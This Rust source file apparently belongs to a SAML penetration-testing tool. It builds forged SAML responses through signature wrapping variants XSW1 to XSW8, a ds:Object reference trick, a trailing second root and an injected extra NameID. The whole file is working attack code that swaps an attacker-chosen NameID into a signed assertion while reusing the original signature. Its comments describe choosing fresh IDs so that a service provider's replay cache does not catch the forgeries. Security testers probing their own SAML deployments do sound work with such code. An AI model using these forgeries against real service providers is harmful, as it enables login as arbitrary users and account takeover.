//! Signature wrapping: SAMLRaider's XSW1-XSW8, a reference into `ds:Object`, a second root and
//! an extra NameID. Nothing here re-signs: the original signature is reused verbatim.

use roxmltree::{Document, Node};

use super::{
    Edit, content_end, copy, id_edit, identity_edits, signature_of, signed_assertion, signed_name,
};
use crate::response::PipelineError;
use crate::xml::{NS_DS, NS_SAML, NS_SAMLP, escape_attr, escape_text};

/// The ID SAMLRaider gives an evil Response, followed by a random part: fresh in every
/// response, so that an SP's replay cache never refuses one wrapping as a replay of another
/// (which would hide the second forgery behind the first).
fn evil_response_id() -> String {
    format!("_evil_response_ID{}", crate::xml::new_id())
}

/// The ID SAMLRaider gives an evil Assertion, followed by a random part (see
/// [`evil_response_id`]).
fn evil_assertion_id() -> String {
    format!("_evil_assertion_ID{}", crate::xml::new_id())
}

fn plan_error(message: String) -> PipelineError {
    PipelineError::Plan(message)
}

/// Builds XSW`variant` (shared/reference/saml-rules-and-attacks.md §2.2).
pub(super) fn xsw(
    doc: &Document<'_>,
    xml: &str,
    variant: u8,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let original = signed_name(doc, "xsw")?;
    let root = doc.root_element();
    let evil_edits = |node: Node<'_, '_>| -> Result<Vec<Edit>, PipelineError> {
        let edits = identity_edits(node, &original, name_id);
        if edits.is_empty() {
            return Err(plan_error(format!(
                "tamper `xsw` {variant}: no text equal to the signed NameID {original:?} to replace"
            )));
        }
        Ok(edits)
    };
    match variant {
        1 | 2 => {
            let signature = signature_of(root).ok_or_else(|| {
                plan_error(format!(
                    "tamper `xsw` {variant} needs a signed Response; use the layout `response` or `both`"
                ))
            })?;
            // The pristine clone loses its first signature (the Response's).
            let clone = copy(xml, root, vec![(signature.range(), String::new())]);
            let mut edits = evil_edits(root)?;
            edits.push(id_edit(root, &evil_response_id())?);
            let at = if variant == 1 {
                content_end(xml, signature)
            } else {
                signature.range().start
            };
            edits.push((at..at, clone));
            Ok(edits)
        }
        3..=8 => {
            let assertion = signed_assertion(doc)?;
            let signature = signature_of(assertion).ok_or_else(|| {
                plan_error(format!(
                    "tamper `xsw` {variant} needs a signed Assertion; use the layout `assertion`"
                ))
            })?;
            let unsigned = || (signature.range(), String::new());
            let evil_copy = |new_id: bool| -> Result<String, PipelineError> {
                let mut edits = evil_edits(assertion)?;
                edits.push(unsigned());
                if new_id {
                    edits.push(id_edit(assertion, &evil_assertion_id())?);
                }
                Ok(copy(xml, assertion, edits))
            };
            let pristine = || copy(xml, assertion, vec![unsigned()]);
            let start = assertion.range().start;
            let mut edits = Vec::new();
            match variant {
                3 => edits.push((start..start, evil_copy(true)?)),
                4 => {
                    let evil = evil_copy(true)?;
                    let close = evil.rfind("</").unwrap_or(evil.len());
                    let nested = format!(
                        "{}{}{}",
                        &evil[..close],
                        &xml[assertion.range()],
                        &evil[close..]
                    );
                    edits.push((assertion.range(), String::new()));
                    let end = content_end(xml, root);
                    edits.push((end..end, nested));
                }
                5 | 6 => {
                    edits.extend(evil_edits(assertion)?);
                    edits.push(id_edit(assertion, &evil_assertion_id())?);
                    let at = if variant == 5 {
                        content_end(xml, root)
                    } else {
                        content_end(xml, signature)
                    };
                    edits.push((at..at, pristine()));
                }
                7 => edits.push((
                    start..start,
                    format!("<Extensions>{}</Extensions>", evil_copy(false)?),
                )),
                _ => {
                    edits.extend(evil_edits(assertion)?);
                    let at = content_end(xml, signature);
                    edits.push((at..at, format!("<Object>{}</Object>", pristine())));
                }
            }
            Ok(edits)
        }
        other => Err(plan_error(format!(
            "tamper `xsw`: variant {other} does not exist; SAMLRaider's variants are 1 to 8"
        ))),
    }
}

/// The signed assertion becomes a forgery with a new ID; its signature references a pristine
/// copy inside a `ds:Object` of that signature.
pub(super) fn object_reference(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let original = signed_name(doc, "object-reference")?;
    let assertion = signed_assertion(doc)?;
    let signature = signature_of(assertion).ok_or_else(|| {
        plan_error("tamper `object-reference` needs a signed Assertion".to_owned())
    })?;
    let pristine = copy(xml, assertion, vec![(signature.range(), String::new())]);
    let mut edits = identity_edits(assertion, &original, name_id);
    edits.push(id_edit(assertion, &crate::xml::new_id())?);
    let at = content_end(xml, signature);
    edits.push((at..at, format!("<ds:Object>{pristine}</ds:Object>")));
    Ok(edits)
}

/// A second root after the signed response: empty, or carrying an unsigned forged copy of the
/// assertion.
pub(super) fn trailing_root(
    doc: &Document<'_>,
    xml: &str,
    name_id: Option<&str>,
) -> Result<String, PipelineError> {
    let root = doc.root_element();
    let id = crate::xml::new_id();
    let Some(name_id) = name_id else {
        return Ok(format!(
            "{xml}<samlp:Response xmlns:samlp=\"{NS_SAMLP}\" ID=\"{id}\" Version=\"2.0\"/>"
        ));
    };
    let original = signed_name(doc, "trailing-root")?;
    let assertion = signed_assertion(doc)?;
    let mut edits = identity_edits(assertion, &original, name_id);
    if let Some(signature) = signature_of(assertion) {
        edits.push((signature.range(), String::new()));
    }
    edits.push(id_edit(assertion, &crate::xml::new_id())?);
    let forged = copy(xml, assertion, edits);
    let instant = root.attribute("IssueInstant").unwrap_or_default();
    Ok(format!(
        "{xml}<samlp:Response xmlns:samlp=\"{NS_SAMLP}\" xmlns:saml=\"{NS_SAML}\" ID=\"{id}\" \
         Version=\"2.0\" IssueInstant=\"{}\"><samlp:Status><samlp:StatusCode \
         Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>{forged}</samlp:Response>",
        escape_attr(instant)
    ))
}

/// A Subject with a forged NameID in `samlp:Extensions`, before the signed assertion.
pub(super) fn extra_name_id(doc: &Document<'_>, name_id: &str) -> Result<Vec<Edit>, PipelineError> {
    let at = extensions_point(doc)?;
    Ok(vec![(
        at..at,
        format!(
            "<samlp:Extensions xmlns:samlp=\"{NS_SAMLP}\"><saml:Subject xmlns:saml=\"{NS_SAML}\"><saml:NameID \
             Format=\"urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress\">{}</saml:NameID>\
             </saml:Subject></samlp:Extensions>",
            escape_text(name_id)
        ),
    )])
}

/// Where `samlp:Extensions` goes in the Response: after its Issuer and Signature (SAML Core
/// §3.2.2 StatusResponseType order).
pub(super) fn extensions_point(doc: &Document<'_>) -> Result<usize, PipelineError> {
    let root = doc.root_element();
    root.children()
        .rfind(|n| n.has_tag_name((NS_SAML, "Issuer")) || n.has_tag_name((NS_DS, "Signature")))
        .map(|n| n.range().end)
        .ok_or_else(|| {
            plan_error("tamper: the Response has no Issuer to put Extensions after".into())
        })
}
